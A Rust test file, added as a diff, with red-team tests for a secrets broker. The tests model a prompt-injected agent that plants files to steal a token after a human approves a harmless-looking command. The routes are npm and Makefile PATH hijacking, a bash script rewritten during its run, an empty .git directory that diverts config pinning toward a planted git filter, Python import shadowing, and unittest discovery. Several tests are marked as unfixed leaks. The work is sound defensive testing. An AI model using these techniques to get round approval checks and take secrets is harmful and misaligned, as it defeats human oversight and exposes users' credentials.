@@ -1,0 +1,398 @@
+//! Third red-team pass on issue 15 ("a grant binds what actually runs, to the end"), as a
+//! prompt-injected agent of the same uid with the source in hand: it plants files, never knows
+//! the passphrase, and gets at most one approval of a harmless-looking command (or a standing
+//! grant approved before the plant).
+//!
+//! Each test performs the attack through the real broker and asserts the secure outcome. A test
+//! whose attack still works is kept `#[ignore = "LEAK: ..."]` (so the suite stays green) with the
+//! gap named in its comment; run it with `--ignored` to replay the leak. Values are generated;
+//! the tests assert on a marker file's existence and content, never print a value.
+
+use std::path::Path;
+use std::process::Output;
+use std::time::Duration;
+
+use crate::harness::*;
+use crate::pathdirs::{Agent, approve_standing, exe, run, setup};
+
+/// What the agent's planted code does with the value: writes it to a file the agent reads.
+fn stealer(marker: &Path) -> String {
+    format!("printf %s \"$TOKEN\" > '{}'\n", marker.display())
+}
+
+/// Whether the agent's marker file holds the granted value (the leak), without printing it.
+fn stolen(marker: &Path, tok: &str) -> bool {
+    std::fs::read(marker).is_ok_and(|b| contains(&b, tok))
+}
+
+fn git(dir: &Path, home: &Path, args: &[&str]) {
+    let o = std::process::Command::new("git")
+        .args(["-c", "user.name=kv", "-c", "user.email=kv@example.invalid"])
+        .args(args)
+        .current_dir(dir)
+        .env("HOME", home)
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .output()
+        .unwrap();
+    assert!(o.status.success(), "git {args:?}: {}", text(&o.stderr));
+}
+
+fn have(p: &str) -> bool {
+    Path::new(p).is_file()
+}
+
+/// Approves `cmd` (run in `app`) with `--ttl 8h` and the given extra approve flags.
+fn approve_with(a: &Agent, app: &Path, cmd: &[&str], extra: &[&str]) -> String {
+    let h = &a.h;
+    let o = run(h, app, "0", cmd);
+    assert_eq!(o.status.code(), Some(5), "{}", text(&o.stderr));
+    let card = h.ok(&["requests"]);
+    let id = h.wait_request();
+    let mut flags = vec!["--ttl", "8h"];
+    flags.extend_from_slice(extra);
+    assert!(h.approve(id, &flags).status.success());
+    card
+}
+
+fn no_value_in(o: &Output, tok: &str) {
+    assert!(!contains(&o.stdout, tok) && !contains(&o.stderr, tok));
+}
+
+// ---------------------------------------------------------------------------------------------
+// 1. Directories a tool adds to PATH itself
+
+/// npm puts `./node_modules/.bin` (and every parent's) in front of PATH for a script (npm-run-
+/// script(1)). The human approves `npm test` whose script only uses system tools (`echo abc |
+/// tr a-z A-Z`): the card shows the script. The agent plants `node_modules/.bin/tr`; the next
+/// run under the standing grant runs it with the value. Planted before the request, the card of
+/// a single approval does not show it either: nothing under `node_modules` is pinned.
+///
+/// Gap: `loaders.rs::npm` pins rc files and `package.json`, and `path_dirs::path_pins` only
+/// looks at the policy PATH, never the directories npm itself prepends.
+#[test]
+#[ignore = "LEAK: a program planted in node_modules/.bin (put on PATH by npm itself) runs under a standing `npm test` grant"]
+fn npm_test_never_runs_a_program_planted_in_node_modules_bin() {
+    if !have("/usr/bin/npm") {
+        return;
+    }
+    let (a, tok, app) = setup(&[], "");
+    let h = &a.h;
+    std::fs::write(
+        app.join("package.json"),
+        r#"{"name":"kvrt","version":"1.0.0","scripts":{"test":"echo abc | tr a-z A-Z"}}"#,
+    )
+    .unwrap();
+    let cmd = ["npm", "test"];
+    let card = approve_standing(&a, &app, &cmd);
+    assert!(card.contains("tr a-z A-Z"), "{card}");
+    let o = run(h, &app, "30", &cmd);
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+    assert!(text(&o.stdout).contains("ABC"), "{}", text(&o.stdout));
+
+    let bin = app.join("node_modules/.bin");
+    std::fs::create_dir_all(&bin).unwrap();
+    let marker = a.path().join("stolen-npm");
+    exe(
+        &bin.join("tr"),
+        &format!("#!/bin/sh\n{}exec /usr/bin/tr \"$@\"\n", stealer(&marker)),
+    );
+    let o = run(h, &app, "0", &cmd);
+    no_value_in(&o, &tok);
+    assert!(
+        !stolen(&marker, &tok),
+        "node_modules/.bin/tr planted after approval ran under the `npm test` grant (exit {:?})",
+        o.status.code()
+    );
+    assert_eq!(o.status.code(), Some(3), "{}", text(&o.stderr));
+}
+
+/// A makefile the human approved puts a project directory in front of PATH (`export PATH :=
+/// $(CURDIR)/tools:$(PATH)`, common for vendored tools); its recipe uses `tr`. The agent plants
+/// `tools/tr` after approval.
+///
+/// Gap: the makefile is pinned, but directories a pinned input adds to PATH are not
+/// (`loaders.rs::make`, `path_dirs::path_pins` sees only the policy PATH).
+#[test]
+#[ignore = "LEAK: a program planted in a directory the approved Makefile adds to PATH runs under a standing `make test` grant"]
+fn make_test_never_runs_a_program_planted_in_a_dir_the_makefile_puts_on_path() {
+    if !have("/usr/bin/make") {
+        return;
+    }
+    let (a, tok, app) = setup(&[], "");
+    let h = &a.h;
+    std::fs::write(
+        app.join("Makefile"),
+        "export PATH := $(CURDIR)/tools:$(PATH)\ntest:\n\t@echo abc | tr a-z A-Z\n",
+    )
+    .unwrap();
+    std::fs::create_dir_all(app.join("tools")).unwrap();
+    let cmd = ["make", "test"];
+    let _ = approve_standing(&a, &app, &cmd);
+    let o = run(h, &app, "30", &cmd);
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+    assert!(text(&o.stdout).contains("ABC"));
+
+    let marker = a.path().join("stolen-make");
+    exe(
+        &app.join("tools/tr"),
+        &format!("#!/bin/sh\n{}exec /usr/bin/tr \"$@\"\n", stealer(&marker)),
+    );
+    let o = run(h, &app, "0", &cmd);
+    no_value_in(&o, &tok);
+    assert!(
+        !stolen(&marker, &tok),
+        "tools/tr planted after approval ran under the `make test` grant (exit {:?})",
+        o.status.code()
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// 2. A pinned script rewritten while it runs
+
+/// bash reads a script as it executes it (it seeks back to the end of each command before
+/// running it). The human approves `bash ci.sh` (`sleep 2; echo ok`). While the approved run
+/// sleeps, the agent rewrites the rest of the file in place, and puts the approved bytes back
+/// before the run ends. The stolen line runs with the value; the next check hashes the restored
+/// file, equal to the pin, so the standing grant lives on and nothing is audited.
+///
+/// Gap: `broker/spawn.rs` runs a script operand by path (the interpreter reopens and re-reads
+/// it) and `pin::check_inputs` compares file pins by SHA-256 only, never at run end
+/// (`runner.rs::end_if_dirs_changed` checks directory roles only). Fix: hand interpreters a
+/// sealed copy of the pinned script (a memfd with `F_SEAL_WRITE`, `/proc/self/fd/N` as the
+/// operand), or re-check file pins by (ino, ctime) as well as content when each run ends.
+#[test]
+#[ignore = "LEAK: an approved bash script rewritten during the run (and restored) runs unseen code with the value; the grant survives"]
+fn a_script_rewritten_and_restored_during_a_run_never_runs_the_rewrite() {
+    let original = "sleep 2\necho approved-step\n";
+    let (a, tok, app) = setup(&[], original);
+    let h = &a.h;
+    let cmd = ["bash", "ci.sh"];
+    let _ = approve_standing(&a, &app, &cmd);
+    let marker = a.path().join("stolen-toctou");
+    let cwd = app.to_string_lossy().into_owned();
+    let child = h.spawn_run(&[
+        "run", "--cwd", &cwd, "--env", "demo", "--wait", "5", "--", "bash", "ci.sh",
+    ]);
+    std::thread::sleep(Duration::from_millis(1000));
+    // Same inode (truncate and write), the first line unchanged: bash continues at offset 8.
+    std::fs::write(
+        app.join("ci.sh"),
+        format!("sleep 2\n{}echo approved-step\n", stealer(&marker)),
+    )
+    .unwrap();
+    let o = wait_output(child, Duration::from_secs(60));
+    std::fs::write(app.join("ci.sh"), original).unwrap();
+    no_value_in(&o, &tok);
+    let leaked = stolen(&marker, &tok);
+    // And the grant still stands: the next run is not asked for again.
+    let again = run(h, &app, "0", &cmd);
+    assert!(
+        !leaked,
+        "a line written into the approved script during its run executed with the value (next run exit {:?})",
+        again.status.code()
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// 3. git: pinning the repository git does not use
+
+/// git skips a `.git` directory that is not a repository and keeps walking up
+/// (setup.c `setup_git_directory_gently_1`). The agent creates an empty `sub/.git/`: keyveil's
+/// discovery stops there and pins nothing of the real repository's config, so a clean filter
+/// in `app/.git/config` (selected by `.gitattributes`) is never shown on the card nor checked.
+/// After approval of `git status --short` in `sub`, the filter is planted and runs with the
+/// value.
+///
+/// Gap: `loaders.rs::existing_git_dirs` takes the first `.git` entry up the tree; git takes the
+/// first that is a valid repository (`HEAD`, `objects/`, `refs/` or `commondir`). Fix: apply git's
+/// own test (or ask `git rev-parse --git-dir --git-common-dir` with the child's environment), and
+/// pin every `.git` candidate up the tree.
+#[test]
+#[ignore = "LEAK: an empty .git dir in cwd diverts keyveil's pinning from the repository git really reads; a clean filter planted there runs under a `git status` grant"]
+fn an_empty_dot_git_in_cwd_never_hides_the_real_repositorys_config() {
+    if !have("/usr/local/bin/git") && !have("/usr/bin/git") {
+        return;
+    }
+    let (a, tok, app) = setup(&[], "");
+    let h = &a.h;
+    let sub = app.join("sub");
+    std::fs::create_dir_all(&sub).unwrap();
+    git(&app, a.path(), &["init", "-q"]);
+    std::fs::write(sub.join("f.txt"), "one\n").unwrap();
+    git(&app, a.path(), &["add", "."]);
+    git(&app, a.path(), &["commit", "-qm", "i"]);
+    std::fs::create_dir(sub.join(".git")).unwrap();
+    let cmd = ["git", "status", "--short"];
+    let card = approve_standing(&a, &sub, &cmd);
+    assert!(
+        !card.contains(&format!("{}/.git/config", app.display())),
+        "the real config is pinned: {card}"
+    );
+    let o = run(h, &sub, "30", &cmd);
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+
+    let marker = a.path().join("stolen-git");
+    let filter = a.path().join("filter.sh");
+    exe(
+        &filter,
+        &format!("#!/bin/sh\n{}exec cat\n", stealer(&marker)),
+    );
+    let cfg = app.join(".git/config");
+    let mut t = std::fs::read_to_string(&cfg).unwrap();
+    t.push_str(&format!(
+        "[filter \"kv\"]\n\tclean = {}\n",
+        filter.display()
+    ));
+    std::fs::write(&cfg, t).unwrap();
+    std::fs::write(app.join(".gitattributes"), "* filter=kv\n").unwrap();
+    // A content change, so status must run the clean filter to compare.
+    std::fs::write(sub.join("f.txt"), "two\n").unwrap();
+    let o = run(h, &sub, "0", &cmd);
+    no_value_in(&o, &tok);
+    assert!(
+        !stolen(&marker, &tok),
+        "a clean filter in the real repository's config ran under the `git status` grant (exit {:?})",
+        o.status.code()
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// 4. Python: modules found next to the script or in the working directory
+
+/// `python3 -m json.tool data.json`: with `-m`, the working directory is `sys.path[0]`, so a
+/// `json/` package planted there is imported instead of the standard library's. Nothing in the
+/// working directory is pinned for `-m` (the "script operand" is taken to be the module name).
+///
+/// Gap: `pin.rs::inputs` (script operand) and `loaders.rs::python`. Fix: for `-m MOD` and for a
+/// script, pin what shadows imports: the fingerprint of `sys.path[0]` (the cwd or the script's
+/// directory: its `*.py`, packages and `__pycache__`), or set `PYTHONSAFEPATH=1` (3.11+) for
+/// granted children and say so.
+#[test]
+#[ignore = "LEAK: a package planted in cwd shadows the stdlib module run by `python3 -m` under a standing grant"]
+fn python_dash_m_never_imports_a_package_planted_in_the_working_directory() {
+    if !have("/usr/bin/python3") {
+        return;
+    }
+    let (a, tok, app) = setup(&[], "");
+    let h = &a.h;
+    std::fs::write(app.join("data.json"), "{\"a\": 1}\n").unwrap();
+    let cmd = ["python3", "-m", "json.tool", "data.json"];
+    let _ = approve_standing(&a, &app, &cmd);
+    let o = run(h, &app, "30", &cmd);
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+    assert!(text(&o.stdout).contains("\"a\": 1"));
+
+    let marker = a.path().join("stolen-pym");
+    let pkg = app.join("json");
+    std::fs::create_dir_all(&pkg).unwrap();
+    std::fs::write(
+        pkg.join("__init__.py"),
+        format!(
+            "import os\nopen({:?}, 'w').write(os.environ.get('TOKEN', ''))\n",
+            marker.display().to_string()
+        ),
+    )
+    .unwrap();
+    std::fs::write(pkg.join("tool.py"), "print('\"a\": 1')\n").unwrap();
+    let o = run(h, &app, "0", &cmd);
+    no_value_in(&o, &tok);
+    assert!(
+        !stolen(&marker, &tok),
+        "json/__init__.py planted in cwd ran under the `python3 -m json.tool` grant (exit {:?})",
+        o.status.code()
+    );
+}
+
+/// `python3 check.py`, where `check.py` (pinned, harmless) imports only the standard library
+/// (`import json`). The script's directory comes first on `sys.path`: a `json.py` planted next
+/// to it runs instead, with the value, and the card of a single approval never shows it.
+#[test]
+#[ignore = "LEAK: json.py planted next to a pinned script shadows the stdlib import and runs under the grant"]
+fn a_pinned_script_never_imports_a_module_planted_next_to_it() {
+    if !have("/usr/bin/python3") {
+        return;
+    }
+    let (a, tok, app) = setup(&[], "");
+    let h = &a.h;
+    std::fs::write(
+        app.join("check.py"),
+        "import json\nprint(json.dumps({'ok': True}))\n",
+    )
+    .unwrap();
+    let marker = a.path().join("stolen-pyshadow");
+    // Planted before the request: one approval of what looks like `python3 check.py`.
+    std::fs::write(
+        app.join("json.py"),
+        format!(
+            "import os\nopen({:?}, 'w').write(os.environ.get('TOKEN', ''))\ndef dumps(o):\n    return '{{\"ok\": true}}'\n",
+            marker.display().to_string()
+        ),
+    )
+    .unwrap();
+    let cmd = ["python3", "check.py"];
+    let card = approve_standing(&a, &app, &cmd);
+    let shown = card.contains("json.py");
+    let o = run(h, &app, "30", &cmd);
+    no_value_in(&o, &tok);
+    assert!(
+        !stolen(&marker, &tok),
+        "json.py next to check.py ran with the value (shown on the card: {shown}; exit {:?})",
+        o.status.code()
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// 5. Prefix grants: positional arguments that are code
+
+/// A prefix grant on `python3 -m unittest` (a test runner): extra positional arguments are
+/// allowed, and `discover DIR` imports and runs every `test*.py` in a directory of the agent's
+/// choosing. The same holds for `pytest PATH`, `go test PKG`, `python3 SCRIPT` (python is not in
+/// `ALL_ARGUMENTS_RUN`).
+///
+/// Gap: `broker/prefix.rs::allowlist_covers`: positional extras of test runners and interpreters
+/// name code. Fix: treat test runners' and interpreters' positionals as code (`ALL_ARGUMENTS_RUN`
+/// for `python`, `unittest`, `pytest`, `go test`), or require every extra path to resolve inside
+/// the granted cwd and pin what it names.
+#[test]
+#[ignore = "LEAK: a prefix grant on `python3 -m unittest` runs test files from any directory named by a positional extra"]
+fn a_unittest_prefix_grant_never_runs_tests_from_a_directory_the_agent_names() {
+    if !have("/usr/bin/python3") {
+        return;
+    }
+    let (a, tok, app) = setup(&[], "");
+    let h = &a.h;
+    std::fs::write(
+        app.join("test_ok.py"),
+        "import unittest\nclass T(unittest.TestCase):\n    def test_ok(self):\n        pass\n",
+    )
+    .unwrap();
+    let cmd = ["python3", "-m", "unittest"];
+    let _ = approve_with(&a, &app, &cmd, &["--prefix"]);
+    let o = run(h, &app, "30", &cmd);
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+
+    let evil = a.path().join("evil");
+    std::fs::create_dir_all(&evil).unwrap();
+    let marker = a.path().join("stolen-unittest");
+    std::fs::write(
+        evil.join("test_x.py"),
+        format!(
+            "import os\nopen({:?}, 'w').write(os.environ.get('TOKEN', ''))\n",
+            marker.display().to_string()
+        ),
+    )
+    .unwrap();
+    let dir = evil.display().to_string();
+    let o = run(
+        h,
+        &app,
+        "0",
+        &["python3", "-m", "unittest", "discover", &dir],
+    );
+    no_value_in(&o, &tok);
+    assert!(
+        !stolen(&marker, &tok),
+        "the `python3 -m unittest` prefix grant ran {dir}/test_x.py (exit {:?})",
+        o.status.code()
+    );
+}
